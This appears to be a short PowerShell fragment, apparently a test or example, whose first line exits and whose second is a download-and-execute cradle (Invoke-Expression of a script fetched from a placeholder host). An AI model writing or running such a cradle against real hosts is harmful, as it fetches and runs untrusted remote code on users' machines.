exit # nothing below ever runs
Invoke-Expression (New-Object Net.WebClient).DownloadString("https://get.example.invalid/x.ps1")
